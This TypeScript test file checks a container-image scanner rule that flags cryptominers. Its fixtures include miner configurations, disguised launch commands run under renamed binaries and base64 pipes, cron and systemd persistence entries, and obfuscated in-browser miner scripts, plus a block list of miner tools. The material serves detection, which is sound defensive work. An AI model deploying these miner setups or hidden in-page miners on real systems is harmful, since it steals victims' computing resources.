import { describe, expect, it } from 'vitest';
import {
  bitcoinAddress,
  brokenMoneroAddress,
  dogecoinAddress,
  moneroAddress,
} from '../../../testkit/addresses.ts';
import { type ImageSpec, judge } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { miner } from './index.ts';

const XMR = moneroAddress('miner tests');
const POOL = 'pool.miners.example:3333';

function find(spec: ImageSpec): readonly Finding[] {
  const { findings, unknowns } = judge([miner], spec);
  expect(unknowns).toEqual([]);
  return findings;
}

function file(text: string, path = 'opt/app/settings.dat'): readonly Finding[] {
  return find({ layers: [{ [path]: text }] });
}

function b64(text: string): string {
  return Buffer.from(text).toString('base64');
}

describe('miner/proof: a wallet with a pool', () => {
  it.each([
    [
      'xmrig JSON with comments',
      `{\n  // config\n  "autosave": true,\n  "donate-level": 1,\n  "pools": [{ "url": "${POOL}", "user": "${XMR}.rig", "pass": "x" }]\n}`,
    ],
    [
      'minified JSON',
      `{"cpu":true,"randomx":{"mode":"auto"},"pools":[{"algo":"rx/0","url":"203.0.113.9:443","user":"${XMR}","tls":true}]}`,
    ],
    [
      'xmr-stak text',
      `"pool_list" : [ {"pool_address" : "${POOL}", "wallet_address" : "${XMR}", "rig_id" : "", "pool_password" : "x" } ],\n"currency" : "monero",\n`,
    ],
    ['ini', `[pool]\nhost = stratum+tcp://${POOL}\n[wallet]\naddress = ${XMR}\n`],
    ['properties', `mining.pool.url=${POOL}\nmining.wallet=${XMR}\n`],
    ['yaml', `miner:\n  pool: "${POOL}"\n  wallet: ${XMR}\n  threads: 4\n`],
    ['toml', `pool_url = "${POOL}"\nwallet = "${XMR}+5000"\n`],
    ['xml', `<config><pool>${POOL}</pool><wallet>${XMR}</wallet></config>`],
    ['env file', `export POOL=${POOL}\nexport WALLET=${XMR}\n`],
    ['onion', `{"pools":[{"url":"abcdefghijklmnop.onion:3333","user":"${XMR}"}]}`],
    ['base64 of it', b64(`{"pools":[{"url":"${POOL}","user":"${XMR}"}],"donate-level":1}`)],
    [
      'bitcoin at a known pool',
      `{"url":"stratum+tcp://sha256.eu.nicehash.com:3334","user":"${bitcoinAddress('a')}.w"}`,
    ],
    [
      'unMineable',
      `{"algo":"rx/0","url":"rx.unmineable.com:3333","user":"DOGE:${dogecoinAddress('a')}.w#ab"}`,
    ],
  ])('in %s', (_name, text) => {
    const [finding] = file(text);
    expect(finding).toMatchObject({ rule: 'miner/proof', severity: 'critical', confidence: 'certain' });
    expect(finding?.indicators?.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['wallet', 'pool']));
  });

  it.each([
    ['a renamed program', `/usr/sbin/nginx -o ${POOL} -u ${XMR} -p x -k --donate-level 1`],
    ['equals signs', `/opt/java --url=${POOL} --user=${XMR}.w1 --coin=monero`],
    ['wrappers', `nohup nice -n 19 /tmp/.x/kworker -o ${POOL} -u ${XMR} >/dev/null 2>&1 &`],
    ['torsocks', `torsocks /bin/dao -o ${POOL} -u ${XMR}`],
    ['variables', `W=${XMR}\nP=pool.miners.example\nexec /opt/a -o $P:3333 -u $W.$(hostname)`],
    ['a split wallet', `A=${XMR.slice(0, 40)}; B=${XMR.slice(40)}\n/opt/a -o ${POOL} -u "$A$B"`],
    [
      'a written configuration',
      `cat > /tmp/c.json <<EOT\n{"pools":[{"url":"${POOL}","user":"${XMR}"}]}\nEOT\n/opt/a -c /tmp/c.json`,
    ],
    ['echoed configuration', `echo '{"pools":[{"url":"${POOL}","user":"${XMR}"}]}' > /tmp/c.json`],
    ['base64 command', `echo ${b64(`/opt/a -o ${POOL} -u ${XMR}`)} | base64 -d | sh`],
    ['lolMiner', `./l --algo ETCHASH --pool ${POOL} --user ${XMR}`],
    ['PhoenixMiner', `./p -pool ${POOL} -wal ${XMR} -coin etc`],
  ])('in a script with %s', (_name, script) => {
    const [finding] = find({
      layers: [{ 'opt/run.sh': `#!/bin/sh\n${script}\n` }],
      startFiles: ['opt/run.sh'],
    });
    expect(finding).toMatchObject({
      rule: 'miner/proof',
      severity: 'critical',
      evidence: [{ path: '/opt/run.sh', layer: 0 }],
    });
  });

  it.each([
    ['etc/cron.d/job', `*/5 * * * * root /usr/bin/kthread -o ${POOL} -u ${XMR}\n`],
    ['etc/supervisor/conf.d/x.conf', `[program:x]\ncommand=/usr/bin/kthread -o ${POOL} -u ${XMR}\n`],
    ['etc/systemd/system/x.service', `[Service]\nExecStart=/usr/bin/kthread -o ${POOL} -u ${XMR}\n`],
    ['etc/services.d/x/run', `#!/usr/bin/with-contenv sh\nexec /usr/bin/kthread -o ${POOL} -u ${XMR}\n`],
  ])('in %s', (path, text) => {
    expect(file(text, path)).toMatchObject([{ rule: 'miner/proof', severity: 'critical' }]);
  });

  it.each<[string, ImageSpec['config']]>([
    ['CMD', { Cmd: ['/usr/bin/nginx', '-o', POOL, '-u', XMR] }],
    ['ENTRYPOINT and CMD together', { Entrypoint: ['/usr/bin/nginx'], Cmd: ['-o', POOL, '-u', XMR] }],
    ['a shell form', { Entrypoint: ['/bin/sh', '-c', `/x -o ${POOL} -u ${XMR}`] }],
    ['ENV', { Env: [`POOL_URL=${POOL}`, `POOL_USER=${XMR}`, 'PATH=/usr/bin'] }],
    ['one ENV', { Env: [`ARGS=-o ${POOL} -u ${XMR}`] }],
    ['ENV with base64', { Env: [`POOL=${POOL}`, `WALLET=${b64(XMR)}`] }],
    ['ENV used by CMD', { Env: [`W=${XMR}`], Cmd: ['/bin/sh', '-c', `/x -o ${POOL} -u $W`] }],
    ['HEALTHCHECK', { Healthcheck: { Test: ['CMD-SHELL', `/x -o ${POOL} -u ${XMR}`] } }],
  ])('in %s', (_name, config) => {
    expect(find({ layers: [{}], config })[0]).toMatchObject({ rule: 'miner/proof', severity: 'critical' });
  });

  it('through a script that takes its variables from ENV', () => {
    const layers = [{ 'run.sh': '#!/bin/sh\nexec /opt/a -o "$POOL" -u "$ID"\n' }];
    const findings = find({
      layers,
      config: { Entrypoint: ['/run.sh'], Env: [`POOL=${POOL}`, `ID=${XMR}`] },
    });
    expect(findings.map(({ rule }) => rule)).toContain('miner/proof');
    expect(findings.flatMap(({ evidence }) => evidence.map(({ path }) => path))).toContain('/run.sh');
  });

  it('in a removed file, one step less', () => {
    const text = `{"pools":[{"url":"${POOL}","user":"${XMR}"}]}`;
    const findings = find({ layers: [{ 'tmp/c.json': text }, { 'tmp/c.json': null }] });
    expect(findings).toMatchObject([{ rule: 'miner/proof', severity: 'high', evidence: [{ goneIn: 1 }] }]);
  });

  it('in LABELs, which nothing runs', () => {
    const config = { Labels: { pool: POOL, wallet: XMR } };
    expect(find({ layers: [{}], config })).toMatchObject([
      { severity: 'medium', evidence: [{ path: 'LABEL' }, {}] },
    ]);
  });

  it('in an image that declares it, one step less and with the reason', () => {
    const findings = find({
      layers: [{}],
      config: { Cmd: ['xmrig', '-o', POOL, '-u', XMR] },
      reference: 'docker.io/metal3d/xmrig:latest',
    });
    expect(findings).toMatchObject([{ rule: 'miner/proof', severity: 'high' }]);
    expect(findings[0]?.why).toContain('openly');
  });
});

describe('miner/command, miner/config and miner/program', () => {
  it.each([
    `/usr/bin/x -o stratum+tcp://${POOL} -u worker1 -p x`,
    '/usr/bin/x -o 203.0.113.9:3333 -u worker --donate-level 0 -a rx/0',
    `/usr/bin/x --url=${POOL} -u ${brokenMoneroAddress('x')} --nicehash`,
  ])('finds the command without a valid wallet: %s', (command) => {
    expect(find({ layers: [{}], config: { Cmd: command.split(' ') } })).toMatchObject([
      { rule: 'miner/command', severity: 'high' },
    ]);
  });

  it.each([
    '{"algo":"rx/0","donate-level":1,"pools":[{"url":"203.0.113.9:3333","user":"someone"}]}',
    '{"pools":[{"url":"stratum+ssl://pool.example:443","user":"x@example.org"}]}',
    '{"donate-level":1,"randomx":{},"opencl":false,"cuda":false,"pools":[]}',
  ])('finds the configuration without a valid wallet: %s', (text) => {
    expect(file(text)).toMatchObject([{ rule: 'miner/config' }]);
  });

  it.each([
    'stratum+tcp:// donate-level randomx',
    'mining.subscribe mining.authorize cryptonight stratum+ssl',
    'usage: x [OPTIONS] -o, --url=URL of mining server --donate-level=N RandomX rx/0 hashrate',
  ])('finds a renamed program by its words: %s', (bytes) => {
    const findings = find({ layers: [{ 'usr/sbin/nginx': { bytes, elf: true } }] });
    expect(findings).toMatchObject([{ rule: 'miner/program', severity: 'high', confidence: 'high' }]);
  });

  it('weighs a program that runs at start as critical', () => {
    const layers = [{ 'usr/sbin/nginx': { bytes: 'stratum+tcp:// donate-level randomx', elf: true } }];
    expect(find({ layers, config: { Cmd: ['usr/sbin/nginx'] } })).toMatchObject([{ severity: 'critical' }]);
  });

  it('finds a miner written in a script', () => {
    const text = `#!/usr/bin/python3\nimport socket, hashlib\ns.send('{"method": "mining.subscribe"}')\ns.send('{"method": "mining.authorize"}')\nurl = "stratum+tcp://x.example:1"\n# cryptonight\n`;
    expect(file(text, 'opt/a.py').map(({ rule }) => rule)).toContain('miner/program');
  });

  it('gives a hint for a name alone', () => {
    expect(find({ layers: [{ 'usr/bin/xmrig': { bytes: 'x', elf: true } }] })).toMatchObject([
      { rule: 'miner/name', severity: 'low' },
    ]);
  });
});

describe('miner leaves alone', () => {
  it.each<[string, string, string | { bytes: string; elf: boolean }]>([
    [
      'monerod',
      'usr/bin/monerod',
      { bytes: 'RandomX cryptonight start-mining hashrate block_template mining pool', elf: true },
    ],
    [
      'a pool server',
      'usr/bin/poold',
      { bytes: 'mining.subscribe mining.authorize mining.notify sha256d', elf: true },
    ],
    ['geth', 'usr/bin/geth', { bytes: 'ethash eth_submitWork eth_getWork hashrate', elf: true }],
    ['a database pool', 'app/config.json', '{"pools":[{"url":"db:5432","user":"app"}],"cpu":2,"retries":3}'],
    [
      'a connection pool',
      'app/application.properties',
      'db.pool.url=db.example:5432\ndb.pool.user=app\ndb.pool.size=5\n',
    ],
    ['placeholders', 'app/config.json', '{"pools":[{"url":"HOST:PORT","user":"YOUR_WALLET_ADDRESS"}]}'],
    ['a comment', 'app/run.sh', `#!/bin/sh\n# ./x -o ${POOL} -u ${XMR}\necho ok\n`],
    [
      'a firewall script',
      'app/block.sh',
      '#!/bin/sh\niptables -A OUTPUT -d pool.supportxmr.com -j DROP\npkill -f "xmrig|stratum+tcp|--donate-level"\n',
    ],
    ['documentation', 'usr/share/doc/x/README.md', `Run \`xmrig -o ${POOL} -u ${XMR}\`\n`],
    [
      'curl',
      'app/get.sh',
      '#!/bin/sh\ncurl -o out.json -u user:pass https://api.example.com:8443/x\nssh -o ConnectTimeout=3 -p 22 host\n',
    ],
    [
      'a donation',
      'app/config.json',
      `{"donation_address":"${XMR}","node":{"url":"node.example:18081","user":"rpc"}}`,
    ],
    [
      'a wallet daemon',
      'app/run.sh',
      `#!/bin/sh\nmonero-wallet-rpc --daemon-address node.example:18081 --wallet-file /w --rpc-bind-port 18082\n`,
    ],
  ])('%s', (_name, path, text) => {
    const findings = find({ layers: [{ [path]: text }], startFiles: path.startsWith('app/') ? [path] : [] });
    expect(findings.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual([]);
  });

  it('weighs scanners less, and says why', () => {
    const bytes = 'stratum+tcp donate-level randomx xmrig cryptominer attack.mitre.org ransomware rootkit';
    const findings = find({ layers: [{ 'usr/bin/scanner': { bytes, elf: true } }] });
    expect(findings).toMatchObject([{ rule: 'miner/program', severity: 'low', confidence: 'low' }]);
    expect(findings[0]?.why).toContain('scanners');
  });
});

describe('miner/in-page', () => {
  const KEY = 'k3Jd92mZ0pQa71LsXy84TfGhWe56Rt78';
  it.each([
    ['srv/www/a.js', `var m = new CoinHive.Anonymous("${KEY}", {throttle: 0.3}); m.start();`],
    ['srv/www/a.js', `const c=new a.b.Anonymous('${KEY}',{c:"w","throttle":.2});c.start(Z)`],
    [
      'srv/www/index.html',
      `<script src="/l/miner.min.js"></script><script>new X.User("${KEY}","me",{throttle:0.5}).start()</script>`,
    ],
    ['srv/www/a.js', `atob("${b64(`var q=new CRLT.Anonymous("${KEY}",{throttle:0.1});q.start();`)}")`],
  ])('finds %s: %s', (path, text) => {
    expect(file(text, path)).toMatchObject([{ rule: 'miner/in-page', severity: 'high' }]);
  });
  it.each([
    ['srv/www/a.js', `var c = new Client.User("${KEY}"); c.start();`],
    ['srv/www/a.js', `new Auth.Anonymous("${KEY}").start();`],
    ['srv/www/a.js', `new CoinHive.Anonymous("${KEY}", {throttle: 0.3});`],
    ['usr/share/doc/x/a.html', `<pre>new CoinHive.Anonymous("${KEY}", {throttle: 0.3}).start()</pre>`],
    ['opt/rules/pages.json', `{"x": "new CoinHive.Anonymous('${KEY}', {throttle: 0.3}).start()"}`],
  ])('leaves alone %s: %s', (path, text) => {
    expect(file(text, path).filter(({ severity }) => severity !== 'info')).toEqual([]);
  });
});
